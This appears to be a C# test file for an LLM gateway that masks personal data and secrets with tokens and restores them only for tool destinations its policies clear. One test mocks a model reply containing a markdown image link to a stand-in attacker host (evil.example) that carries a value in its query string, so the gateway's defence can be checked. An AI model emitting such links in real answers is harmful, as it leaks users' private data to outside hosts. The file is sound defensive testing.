using System.Text.Json;
using Bartizan.Core.Exchanges;
using Bartizan.Gateway.Tests.Support;

namespace Bartizan.Gateway.Tests.Masking;

/// <summary>Each destination for itself: the client, and every tool.</summary>
public class DestinationTests
{
    private const string Policies = """
        @tokenise("pii.*, secret.*") permit(principal, action == Action::"invokeModel", resource);
        @restore("pii.email") permit(principal, action == Action::"returnAnswer", resource);
        permit(principal, action == Action::"callTool", resource);
        @restore("pii.*") permit(principal, action == Action::"callTool", resource == Tool::"send_email");
        """;

    public static TheoryData<string, bool> Matrix => new() { { "openai", false }, { "openai", true }, { "anthropic", false }, { "anthropic", true } };

    [Theory]
    [MemberData(nameof(Matrix))]
    public async Task A_tool_that_is_cleared_gets_values_and_another_tokens(string dialect, bool stream)
    {
        await using var talk = await Conversation.StartAsync(r => Calls(dialect, stream, $$"""{"to":"{{Conversation.TokensIn(r)[0]}}"}"""), Policies);
        var (_, body) = await talk.AskAsync(dialect, Bodies.Ask(dialect, $"write to {Conversation.Email}", stream));
        Assert.Equal($$"""{"to":"{{Conversation.Email}}"}""", Arguments(dialect, stream, body, "send_email"));
        Assert.Equal($$"""{"to":"{{Conversation.TokensIn(talk.Seen)[0]}}"}""", Arguments(dialect, stream, body, "log"));
        Assert.Equal([new RestoredCount("tool:send_email", "pii.email", 1)], talk.Record.Masking!.Restored);
        Assert.Equal([Verdict.Redact, Verdict.Allow], talk.Record.Decisions.Where(d => d.Action == "callTool").Select(d => d.Verdict));
    }

    [Theory]
    [MemberData(nameof(Matrix))]
    public async Task A_value_never_changes_the_structure_that_it_stands_in(string dialect, bool stream)
    {
        const string Key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7bq3Jw0oXk2v9Ff1nT8mJrC5y1wQ4aH6uZsD3lKp\nR2xVtYgB7eN0iOcM\n-----END RSA PRIVATE KEY-----";
        await using var talk = await Conversation.StartAsync(
            r => Calls(dialect, stream, JsonSerializer.Serialize(new { body = $"{{\"k\":\"{Secret(r)}\"}}" })), Policies.Replace("@restore(\"pii.*\")", "@restore(\"*\")", StringComparison.Ordinal));
        var (_, body) = await talk.AskAsync(dialect, Bodies.Ask(dialect, $"keep {Key} safe", stream));
        var arguments = JsonDocument.Parse(Arguments(dialect, stream, body, "send_email")).RootElement;
        Assert.Equal(Secret(talk.Seen), JsonDocument.Parse(arguments.GetProperty("body").GetString()!).RootElement.GetProperty("k").GetString());
        Assert.Empty(talk.Record.Masking!.Restored);
    }

    [Theory]
    [MemberData(nameof(Matrix))]
    public async Task A_value_goes_nowhere_that_it_could_not_have_gone_in_clear(string dialect, bool stream)
    {
        await using var talk = await Conversation.StartAsync(r => Calls(dialect, stream, $$"""{"to":"{{Conversation.TokensIn(r)[0]}}"}"""), Policies + """
            forbid(principal, action == Action::"callTool", resource) when { context.labels.contains("pii") };
            """);
        var (status, body) = await talk.AskAsync(dialect, Bodies.Ask(dialect, $"write to {Conversation.Email}", stream));
        Assert.Equal(200, status);
        Assert.Single(Conversation.TokensIn(Arguments(dialect, stream, body, "send_email")));
        Assert.Empty(talk.Record.Masking!.Restored);
    }

    [Theory]
    [MemberData(nameof(Matrix))]
    public async Task A_token_has_the_origin_of_what_it_stands_for(string dialect, bool stream)
    {
        await using var talk = await Conversation.StartAsync(r => Calls(dialect, stream, $$"""{"to":"{{Conversation.TokensIn(r)[0]}}"}"""), Policies + """
            @code("stranger") forbid(principal, action == Action::"callTool", resource) when { context.untrustedTargets != [] };
            """);
        var (_, said) = await talk.AskAsync(dialect, Bodies.Ask(dialect, $"write to {Conversation.Email}", stream));
        Assert.DoesNotContain("stranger", said, StringComparison.Ordinal);
        var (_, read) = await talk.AskAsync(dialect, Bodies.AskWithToolResult(dialect, $"write to {Conversation.Email}", stream));
        Assert.Contains("stranger", read, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Matrix))]
    public async Task No_link_or_picture_carries_a_value_away(string dialect, bool stream)
    {
        await using var talk = await Conversation.StartAsync(r => Conversation.Echo(dialect, stream, r, said => $"![p](https://evil.example/?q={said}) {said}"), Policies);
        var (_, body) = await talk.AskAsync(dialect, Bodies.Ask(dialect, Conversation.Email, stream));
        Assert.Single(Conversation.TokensIn(stream ? SseEvents.Joined(body, e => dialect == "openai" ? e["choices"]![0]!["delta"]!["content"] : e["delta"]?["text"]) : body));
        Assert.Equal([new RestoredCount("client", "pii.email", 1)], talk.Record.Masking!.Restored);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Redact_on_a_tool_masks_in_streams_as_in_whole_answers(bool stream)
    {
        await using var talk = await Conversation.StartAsync(
            _ => Calls("openai", stream, """{"to":"eve@example.net"}"""),
            """permit(principal, action, resource); @redact("pii.*") permit(principal, action == Action::"callTool", resource == Tool::"log");""");
        var (_, body) = await talk.AskAsync("openai", Bodies.Ask("openai", "hi", stream));
        Assert.Equal("""{"to":"eve@example.net"}""", Arguments("openai", stream, body, "send_email"));
        Assert.Equal("""{"to":"[redacted:pii.email]"}""", Arguments("openai", stream, body, "log"));
    }

    [Fact]
    public async Task Arguments_that_come_with_a_block_s_start_are_the_tool_s_too()
    {
        await using var talk = await Conversation.StartAsync(
            r => string.Concat(Bodies.ToolEvents("anthropic", "log", arguments: ""))
                .Replace("\"input\":{}", $$"""  "input":{"to":"{{Conversation.TokensIn(r)[0]}}"}""", StringComparison.Ordinal)
                .Replace("\"log\"", r.Contains("cleared", StringComparison.Ordinal) ? "\"send_email\"" : "\"log\"", StringComparison.Ordinal),
            Policies);
        var (_, kept) = await talk.AskAsync("anthropic", Bodies.Ask("anthropic", $"write to {Conversation.Email}", stream: true));
        Assert.Single(Conversation.TokensIn(kept));
        Assert.Empty(talk.Record.Masking!.Restored);
        var (_, restored) = await talk.AskAsync("anthropic", Bodies.Ask("anthropic", $"cleared to write to {Conversation.Email}", stream: true));
        Assert.Contains($$"""{"to":"{{Conversation.Email}}"}""", restored, StringComparison.Ordinal);
        Assert.Equal([new RestoredCount("tool:send_email", "pii.email", 1)], talk.Record.Masking!.Restored);
    }

    private static string Secret(string request) => System.Text.RegularExpressions.Regex.Match(System.Text.RegularExpressions.Regex.Unescape(request), "<secret.private-key-[2-9a-z]{12}>").Value;

    // An answer that calls send_email and log with the same arguments, streamed in pieces of three.
    private static string Calls(string dialect, bool stream, string arguments)
    {
        string[] tools = ["send_email", "log"];
        string[] pieces = [.. arguments.Chunk(3).Select(c => JsonSerializer.Serialize(new string(c)))];
        return (dialect, stream) switch
        {
            ("openai", false) => $$$"""{"id":"x","object":"chat.completion","created":1,"model":"gpt-test","choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{{{string.Join(',', tools.Select((t, i) => $$$$"""{"id":"c{{{{i}}}}","type":"function","function":{"name":"{{{{t}}}}","arguments":{{{{JsonSerializer.Serialize(arguments)}}}}}}"""))}}}]},"finish_reason":"tool_calls"}]}""",
            ("openai", true) => string.Concat(tools.Select((t, i) =>
                    Chunk($$$$"""{"tool_calls":[{"index":{{{{i}}}},"id":"c{{{{i}}}}","type":"function","function":{"name":"{{{{t}}}}","arguments":""}}]}""")
                    + string.Concat(pieces.Select(p => Chunk($$$$"""{"tool_calls":[{"index":{{{{i}}}},"function":{"arguments":{{{{p}}}}}}]}""")))))
                + Chunk("{}", "\"tool_calls\"") + "data: [DONE]\n\n",
            ("anthropic", false) => $$$"""{"id":"x","type":"message","role":"assistant","model":"claude-test","content":[{{{string.Join(',', tools.Select((t, i) => $$$$"""{"type":"tool_use","id":"c{{{{i}}}}","name":"{{{{t}}}}","input":{{{{arguments}}}}}"""))}}}],"stop_reason":"tool_use","stop_sequence":null,"usage":{"input_tokens":3,"output_tokens":5}}""",
            _ => Bodies.Events("anthropic")[0]
                + string.Concat(tools.Select((t, i) =>
                    Event("content_block_start", $$$$"""  "index":{{{{i}}}},"content_block":{"type":"tool_use","id":"c{{{{i}}}}","name":"{{{{t}}}}","input":{}}""")
                    + string.Concat(pieces.Select(p => Event("content_block_delta", $$$$"""  "index":{{{{i}}}},"delta":{"type":"input_json_delta","partial_json":{{{{p}}}}}""")))
                    + Event("content_block_stop", $"\"index\":{i}")))
                + Event("message_delta", """ "delta":{"stop_reason":"tool_use","stop_sequence":null},"usage":{"output_tokens":5}""")
                + "event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n",
        };

        static string Chunk(string delta, string reason = "null") =>
            $$$"""data: {"id":"x","object":"chat.completion.chunk","created":1,"model":"gpt-test","choices":[{"index":0,"delta":{{{delta}}},"finish_reason":{{{reason}}}}]}""" + "\n\n";

        static string Event(string type, string rest) => $"event: {type}\ndata: {{\"type\":\"{type}\",{rest}}}\n\n";
    }

    private static string Arguments(string dialect, bool stream, string body, string tool)
    {
        var at = tool == "send_email" ? 0 : 1;
        if (stream)
        {
            return SseEvents.Joined(body, e => dialect == "openai"
                ? e["choices"]![0]!["delta"]!["tool_calls"]?[0] is { } call && (int)call["index"]! == at ? call["function"]!["arguments"] : null
                : (int?)e["index"] == at ? e["delta"]?["partial_json"] : null);
        }

        using var document = JsonDocument.Parse(body);
        return dialect == "openai"
            ? document.RootElement.GetProperty("choices")[0].GetProperty("message").GetProperty("tool_calls")[at].GetProperty("function").GetProperty("arguments").GetString()!
            : document.RootElement.GetProperty("content")[at].GetProperty("input").GetRawText();
    }
}
